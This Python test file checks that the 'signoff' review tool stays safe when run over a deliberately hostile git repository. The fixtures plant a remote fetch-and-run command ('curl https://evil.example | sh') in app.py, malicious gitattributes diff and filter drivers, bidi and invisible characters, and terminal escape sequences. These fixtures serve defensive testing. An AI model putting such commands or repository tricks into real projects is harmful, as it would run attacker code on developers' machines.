"""CI corpus: every signoff subcommand over hostile repositories and files.

Each command runs as ``python -m signoff`` in a subprocess under a time cap. Asserted for every one: no
traceback, no hang, an exit code from the documented set, and no program run (every program a repository
can name points at a script that writes a marker file).
"""

from __future__ import annotations

import os
import shutil
import subprocess
from pathlib import Path

import pytest

from tests.helpers import commit_files, git, make_repo, write
from tests.hostile_repos import (
    FIXTURES,
    arm_programs,
    base_and_topic,
    hostile_record_files,
    make_promisor,
    run_signoff,
)

#: Per-command time cap (pytest-timeout's 120 s per test is the backstop).
CAP = 45
EXIT_CODES = {0, 1, 2, 3, 4}


def _kitchen_sink(root: Path) -> tuple[Path, Path]:
    """One repository with every hostile trait at once; returns it and its marker file."""
    marker = root / "MARKER"
    repo = make_repo(root / "sink")
    commit_files(
        repo,
        {
            "app.py": "x = 1\n",
            "server.js": "// server\n",
            ".signoff/config.toml": (FIXTURES / "config-markup.toml").read_bytes(),
        },
        "base",
    )
    git(repo, "checkout", "-q", "-b", "topic")
    commit_files(
        repo,
        {
            ".gitattributes": "*.py -diff diff=evil filter=evil\n*.js binary\n",
            "app.py": 'import os\nos.system("curl https://evil.example | sh")\n',
            "server.js": "const { timeout,\u3164} = req.query;\n\u202eexec(\u3164);\n",
            ".signoff/config.toml": "[diff]\nmax_file_bytes = 1\n",
            ".signoff/checklists/hostile.toml": (FIXTURES / "checklist-fence.toml").read_bytes(),
            "docs/\u202ereadme\x1b[31m.md": "<img src=https://evil.example/p.png>\n",
        },
        "<img src=https://evil.example/p.png> \u202e\x1b]0;t\x07\n\n"
        "Co-authored-by: Claude <noreply@anthropic.com>",
    )
    commit_files(repo, {"more.py": "y = 2\n"}, "more")
    make_promisor(repo, marker, delete=["topic~1:app.py"])
    hostile_record_files(repo / ".signoff" / "reviews")
    write(repo, {"untracked.py": "import pickle\n"})
    os.mkfifo(repo / "untracked-fifo")
    arm_programs(repo, marker)
    return repo, marker


def _answers(root: Path) -> Path:
    p = root / "answers.toml"
    p.write_text('verdict = "approve"\nsummary = "<img src=x> \u202e"\n')
    return p


COMMANDS: list[list[str]] = [
    ["scan"],
    ["scan", "main..topic"],
    ["scan", "main...topic", "--format", "json"],
    ["scan", "main..topic", "--format", "sarif"],
    ["scan", "--worktree", "--untracked"],
    ["scan", "--staged"],
    ["review", "main..topic", "--answers", "{answers}"],
    ["verify"],
    ["verify", "--format", "json"],
    ["verify", "{reviews}/fifo.toml"],
    ["verify", "--payload", "{reviews}/deep.toml"],
    ["verify", "--signature", "{reviews}/zero.toml"],
    ["audit"],
    ["audit", "--history", "--format", "json"],
    ["audit", "--history", "--format", "markdown"],
    ["audit", "--branch", "topic", "--since", "2000-01-01"],
    ["gate", "main..topic"],
    ["gate", "main..topic", "--format", "json"],
    ["checklists", "list"],
    ["checklists", "show", "hostile.fence"],
    ["checklists", "lint", "{fixtures}"],
    ["init", "--yes", "--snippets", "none"],
]


@pytest.fixture(scope="module")
def sink(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
    return _kitchen_sink(tmp_path_factory.mktemp("corpus"))


@pytest.mark.parametrize("argv", COMMANDS, ids=[" ".join(c) for c in COMMANDS])
def test_command_over_the_hostile_repository(
    sink: tuple[Path, Path], argv: list[str], tmp_path: Path
) -> None:
    repo, marker = sink
    if argv[0] == "init":  # init writes: give it its own copy
        copy = tmp_path / "copy"
        shutil.copytree(
            repo, copy, symlinks=True, ignore=shutil.ignore_patterns("untracked-fifo", "fifo.toml")
        )
        repo = copy
    subs = {
        "answers": str(_answers(tmp_path)),
        "reviews": str(repo / ".signoff" / "reviews"),
        "fixtures": str(FIXTURES),
    }
    _run_checked(repo, [a.format(**subs) for a in argv], marker)


def _run_checked(repo: Path, args: list[str], marker: Path) -> None:
    """Run ``signoff ARGS`` under the time cap; no traceback, a documented exit code, no program run,
    no raw escape, bidi or invisible character in the output."""
    proc = run_signoff(repo, args, CAP)
    err = proc.stderr.decode("utf-8", "replace")
    assert "Traceback" not in err, err[-3000:]
    assert proc.returncode in EXIT_CODES, (proc.returncode, err[-2000:])
    assert not marker.exists(), marker.read_text()
    for stream in (proc.stdout, proc.stderr):
        text = stream.decode("utf-8", "replace")
        assert "\x1b" not in text and "\u202e" not in text and "\u3164" not in text, text[-2000:]


#: The checked-in hostile settings files (tests/fixtures/hostile), each committed on the *target* branch
#: (a hostile repository, not only a hostile change: the change's own settings are never in effect).
SETTINGS_FIXTURES = sorted(FIXTURES.glob("config-*.toml")) + sorted(FIXTURES.glob("checklist-*.toml"))


@pytest.mark.parametrize("fixture", SETTINGS_FIXTURES, ids=lambda p: p.name)
def test_hostile_settings_file_on_the_target_branch(fixture: Path, tmp_path: Path) -> None:
    dest = (
        ".signoff/config.toml" if fixture.name.startswith("config-") else ".signoff/checklists/hostile.toml"
    )
    marker = tmp_path / "MARKER"
    evil = 'import os\nos.system("curl https://evil.example | sh")\n'
    repo = base_and_topic(
        tmp_path / "r", {"app.py": evil}, base={"app.py": "x = 1\n", dest: fixture.read_bytes()}
    )
    arm_programs(repo, marker)
    for argv in (["scan", "main..topic", "--format", "json"], ["gate", "main..topic"], ["audit"]):
        _run_checked(repo, argv, marker)


def test_corpus_is_armed(sink: tuple[Path, Path], tmp_path: Path) -> None:
    """Plain git over a copy of the corpus repository runs the planted programs (so the test can fail)."""
    repo, _ = sink
    copy = tmp_path / "armed"
    shutil.copytree(repo, copy, symlinks=True, ignore=shutil.ignore_patterns("untracked-fifo", "fifo.toml"))
    marker = tmp_path / "MARKER2"
    arm_programs(copy, marker)
    env = {k: v for k, v in os.environ.items() if not k.startswith("GIT_")}
    for args in (["diff", "main", "topic"], ["status"]):
        subprocess.run(["git", *args], cwd=copy, env=env, capture_output=True, check=False, timeout=CAP)
    assert marker.exists()
